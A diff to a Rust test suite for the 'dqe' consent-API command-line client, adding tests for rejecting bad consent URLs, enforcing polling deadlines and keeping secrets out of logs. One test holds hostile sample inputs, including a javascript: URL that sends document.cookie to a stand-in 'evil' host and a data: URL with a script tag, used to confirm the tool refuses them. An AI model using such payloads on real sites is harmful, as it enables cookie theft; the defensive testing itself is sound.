@@ -17,8 +17,9 @@ use dqe_client::sandbox::{
     DEFAULT_CLIENT_SECRET, DEFAULT_LICENCE, Sandbox, SandboxConfig, scenarios,
 };
 use dqe_client::{
-    AccessTokenReply, AccessTokenSuccess, Formfilling, InitiateReply, InitiateRequest,
-    InitiateSuccess, List, RetrieveError, RetrieveReply, RetrieveSuccess, Scope,
+    AccessTokenReply, AccessTokenRequest, AccessTokenSuccess, Formfilling, InitiateReply,
+    InitiateRequest, InitiateSuccess, List, RetrieveError, RetrieveReply, RetrieveRequest,
+    RetrieveSuccess, Scope,
 };
 
 fn dqe(server: Option<&str>, args: &[&str]) -> Output {
@@ -784,10 +785,11 @@ fn server_text_reaches_the_terminal_escaped() {
         assert_clean(&o, false);
     }
 
-    // An operator and a consent URL carrying escape sequences.
+    // An operator carrying escape sequences. (A consent URL holding control characters is
+    // refused outright: `a_consent_url_that_is_not_a_web_page_exits_4_without_being_shown`.)
     let mut consent = InitiateSuccess::default();
     consent.operator = Some(format!("Orange{hostile_text}"));
-    consent.url = Some(format!("https://consent.example/{hostile_text}"));
+    consent.url = Some("https://consent.example/ok".to_owned());
     let consent = InitiateReply::Success(consent);
     for json in [false, true] {
         let stub = Stub::start(vec![token_reply(), json_reply(&consent)]);
@@ -806,10 +808,7 @@ fn server_text_reaches_the_terminal_escaped() {
             assert_eq!(v["operator"], format!("Orange{hostile_text}"));
         } else {
             assert!(out.contains(&format!("Orange{escaped}")), "{out}");
-            assert!(
-                out.contains(&format!("https://consent.example/{escaped}")),
-                "{out}"
-            );
+            assert!(out.contains("https://consent.example/ok"), "{out}");
         }
         assert_clean(&o, true);
     }
@@ -1377,4 +1376,218 @@ fn the_readme_documents_every_option_and_scope() {
             );
         }
     }
+}
+
+// ---------------------------------------------------------------------------------------------
+// The consent URL, deadlines and logging.
+// ---------------------------------------------------------------------------------------------
+
+/// A consent URL that is not an operator's page is refused (exit 4, the rule it broke, never the
+/// URL), and the flow is printed to poll: step 1 may have sent the SMS.
+#[test]
+fn a_consent_url_that_is_not_a_web_page_exits_4_without_being_shown() {
+    for url in [
+        "javascript:fetch('//evil/'+document.cookie)",
+        "data:text/html,<script>evil()</script>",
+        "/evil/relative",
+    ] {
+        let consent = serde_json::json!({"status": "success", "operator": "Orange", "url": url});
+        let stub = Stub::start(vec![token_reply(), json_reply(&consent)]);
+        let args = ["flow", "--number", NUMBER, "--name", "ACME", "--wait", "5"];
+        let o = hostile(&stub.url, &args);
+        let (out, err) = text(&o);
+        assert_eq!(o.status.code(), Some(4), "{url}: {err}");
+        assert_eq!(stub.requests(), 2, "{url}: the token, then step 1 once");
+        assert!(err.contains("consent URL"), "{url}: {err}");
+        assert!(err.contains("not sent again"), "{url}: {err}");
+        assert!(
+            !out.contains("evil") && !err.contains("evil"),
+            "{out}\n{err}"
+        );
+        assert!(!out.contains("send the customer"), "{out}");
+        assert!(out.starts_with("flow: "), "the flow to poll: {out}");
+        assert_clean(&o, true);
+    }
+}
+
+/// A server that answers a reply's head at once, then drips its body one byte every 2 s (for
+/// at most two minutes), to each connection.
+fn dripping_server() -> String {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let url = format!("http://{}", listener.local_addr().unwrap());
+    std::thread::spawn(move || {
+        for stream in listener.incoming() {
+            let Ok(mut stream) = stream else { continue };
+            std::thread::spawn(move || {
+                if read_request(&mut stream).is_err() {
+                    return;
+                }
+                let head = "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{";
+                let mut ok = stream.write_all(head.as_bytes()).is_ok();
+                for _ in 0..60 {
+                    ok = ok && stream.write_all(b" ").and_then(|()| stream.flush()).is_ok();
+                    if !ok {
+                        return;
+                    }
+                    std::thread::sleep(Duration::from_secs(2));
+                }
+            });
+        }
+    });
+    url
+}
+
+/// `--wait` is a deadline: a poll in flight ends with it, not with the request timeout (20 s).
+#[test]
+fn wait_ends_at_its_deadline_while_the_server_drips() {
+    let url = dripping_server();
+    let flow = flow_json(now_unix(), None);
+    let started = Instant::now();
+    let o = hostile(&url, &["retrieve", "--flow", &flow, "--wait", "3"]);
+    let took = started.elapsed();
+    let (_, err) = text(&o);
+    assert_eq!(o.status.code(), Some(3), "{err}");
+    assert!(err.contains("no final answer"), "{err}");
+    // Not a timing claim: without the deadline the poll would last the 20 s request timeout.
+    assert!(took < Duration::from_secs(15), "dqe waited {took:?}: {err}");
+    assert_clean(&o, false);
+}
+
+/// The string values of a JSON document, at any depth, but those of `status` and `scope`
+/// (words of the protocol) and those shorter than four characters.
+fn values(v: &serde_json::Value, out: &mut Vec<String>) {
+    match v {
+        serde_json::Value::String(s) if s.chars().count() >= 4 => out.push(s.clone()),
+        serde_json::Value::Array(items) => items.iter().for_each(|i| values(i, out)),
+        serde_json::Value::Object(map) => {
+            for (k, v) in map {
+                if !["status", "scope", "scopes", "token_type"].contains(&k.as_str()) {
+                    values(v, out);
+                }
+            }
+        }
+        _ => {}
+    }
+}
+
+/// Every scope with `-vv` and `RUST_LOG=trace` against the sandbox: each request is on
+/// stderr (its path), and none of the values sent (licence, secret, number, partner name,
+/// user_infos) or received (token, consent URL, operator, identity values, scores) is.
+#[tokio::test(flavor = "multi_thread")]
+async fn verbose_logs_every_request_and_no_value() {
+    let s = sandbox().await;
+    let url = s.url().to_owned();
+    tokio::task::spawn_blocking(move || {
+        let infos = infos_file("verbose");
+        let partner = "PartnerNameXyz";
+        let sent = [
+            DEFAULT_LICENCE,
+            DEFAULT_CLIENT_SECRET,
+            "0612345678",
+            partner,
+        ];
+        let sent_infos = ["Lefèvre", "Zoé"];
+        let run = |args: &[&str]| {
+            let mut c = Command::new(env!("CARGO_BIN_EXE_dqe"));
+            c.args(["--json", "-vv"])
+                .args(args)
+                .env("RUST_LOG", "trace")
+                .env("DQE_SERVER", &url)
+                .env("DQE_LICENCE", DEFAULT_LICENCE)
+                .env("DQE_CLIENT_SECRET", DEFAULT_CLIENT_SECRET);
+            let o = within(c, Duration::from_secs(60));
+            let (out, err) = text(&o);
+            assert_eq!(o.status.code(), Some(0), "{args:?}: {err}");
+            let doc: serde_json::Value = serde_json::from_str(&out)
+                .unwrap_or_else(|e| panic!("{args:?}: not JSON ({e}): {out}"));
+            (doc, err)
+        };
+        let check = |doc: &serde_json::Value, err: &str, paths: &[&str], what: &str| {
+            let mut received = Vec::new();
+            values(doc, &mut received);
+            for value in received
+                .iter()
+                .map(String::as_str)
+                .chain(sent)
+                .chain(sent_infos)
+            {
+                assert!(!err.contains(value), "{what}: `{value}` logged:\n{err}");
+            }
+            for path in paths {
+                assert!(
+                    err.contains(&format!("path=\"{path}\"")),
+                    "{what}: no request to {path} logged:\n{err}"
+                );
+            }
+        };
+        let token = AccessTokenRequest::INFO.path;
+        let step1 = InitiateRequest::INFO.path;
+        let step2 = RetrieveRequest::INFO.path;
+        for scope in Scope::INFO {
+            let mut args = vec![
+                "initiate".to_owned(),
+                "--number".to_owned(),
+                "0612345678".to_owned(),
+                "--name".to_owned(),
+                partner.to_owned(),
+                "--scope".to_owned(),
+                scope.wire.to_owned(),
+            ];
+            for required in scope.requires {
+                let p = InitiateRequest::INFO
+                    .params
+                    .iter()
+                    .find(|p| p.name == *required)
+                    .unwrap();
+                args.push(option(p.wire));
+                args.push(match p.kind {
+                    ValueKind::Integer => "24".to_owned(),
+                    ValueKind::Json(_) => infos.clone(),
+                    _ => "FR".to_owned(),
+                });
+            }
+            let args: Vec<&str> = args.iter().map(String::as_str).collect();
+            let (doc, err) = run(&args);
+            let mut received = Vec::new();
+            values(&doc, &mut received);
+            assert!(
+                !received.is_empty(),
+                "{}: nothing to look for in {doc}",
+                scope.wire
+            );
+            check(&doc, &err, &[token, step1], scope.wire);
+            if scope.one_step {
+                continue;
+            }
+            let flow = doc["flow"].to_string();
+            let (data, err) = run(&["retrieve", "--flow", &flow, "--wait", "30"]);
+            check(&data, &err, &[step2], scope.wire);
+            // Step 2's output holds what was received: checked against step 2's log too.
+            check(&doc, &err, &[], scope.wire);
+        }
+    })
+    .await
+    .unwrap();
+}
+
+/// Without `-v` nor `RUST_LOG`, nothing is logged; `-v` logs requests but not the schedule.
+#[test]
+fn logging_is_off_by_default_and_grows_with_v() {
+    let quiet = dqe(None, &["demo"]);
+    let (_, err) = text(&quiet);
+    assert_eq!(quiet.status.code(), Some(0), "{err}");
+    assert!(!err.contains("request"), "{err}");
+    let one = dqe(None, &["-v", "demo"]);
+    let (_, err) = text(&one);
+    assert!(err.contains("INFO request"), "{err}");
+    assert!(err.contains("step 2 pending: polling again"), "{err}");
+    assert!(!err.contains("DEBUG"), "{err}");
+    let two = dqe(None, &["-vv", "demo"]);
+    let (out, err) = text(&two);
+    assert!(err.contains("next poll scheduled"), "{err}");
+    assert!(err.contains("token issued"), "{err}");
+    assert!(
+        !out.contains("INFO") && !out.contains("DEBUG"),
+        "logs on stdout: {out}"
+    );
 }
